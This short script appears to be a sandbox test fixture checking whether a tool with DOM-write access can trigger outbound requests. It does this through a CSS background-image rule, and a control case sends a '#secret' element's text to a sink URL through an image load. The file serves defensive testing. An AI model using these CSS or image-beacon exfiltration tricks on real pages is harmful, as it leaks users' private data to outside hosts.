//! guest = "tool"
//! promise = "dom-write-table"
//! capabilities = ["dom:read", "dom:write"]
// A style sheet of the page has a class with an address.
for (const id of ["#text", "#press", "h1", "li", "#label"]) await btcp.dom.setAttribute(id, "class", "tracked").catch(() => {});
return "written";
// --- page
const style = document.createElement("style");
style.textContent = `.tracked { background-image: url("${stage.sink}/class") }`;
document.head.append(style);
const said = stage.outcome(await stage.tool());
await stage.wait(250);
style.remove();
return said;
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
